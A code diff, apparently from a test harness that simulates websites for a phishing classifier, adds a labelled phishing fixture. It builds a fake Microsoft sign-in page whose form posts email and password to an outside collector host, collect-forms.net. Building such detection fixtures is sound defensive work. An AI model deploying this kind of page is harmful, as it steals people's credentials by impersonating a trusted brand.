@@ -2,7 +2,7 @@
 odd addresses, statuses, types and encodings."""
 from .. import looks
 from ..description import Reply
-from .honest import page
+from .honest import application, field, page
 
 PORTAL = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title>
 <style>body{{font:15px "Segoe UI",sans-serif;background:#f2f2f2;margin:0}}.box{{width:360px;margin:12vh auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}}
@@ -35,6 +35,11 @@ def build(world):
     world.at("northgate-voicemail.com/", page("Welcome", "<h1>It works!</h1>", "nginx", "#555"))
     _addresses(world)
     _answers(world)
+    world.site("phish-application", "phish", "https://workspace-mail-login.net/", "An application that is empty until its script has asked what to draw: a Microsoft sign-in.", "phishing", browser=True, brand="Microsoft", brand_in_text=True,
+               evidence=("page.brand", "page.credentials"), shows="root")
+    application(world, "workspace-mail-login.net", "Sign in to your account", {"set": {"style": "width:352px;padding:44px;margin:14vh auto;font:15px Segoe UI;box-shadow:0 2px 6px #0003"}, "of": [
+        {"tag": "img", "set": {"src": looks.data_uri(looks.logo("microsoft")), "alt": "Microsoft"}}, {"tag": "h2", "text": "Sign in"}, {"tag": "form", "set": {"method": "post", "action": "https://collect-forms.net/in"}, "of": [
+            field("loginfmt", "email", "Email, phone, or Skype"), field("passwd", "password", "Password"), {"tag": "button", "text": "Sign in", "set": {"style": "background:#0067b8;color:#fff"}}]}]})
 
 
 def _addresses(world):
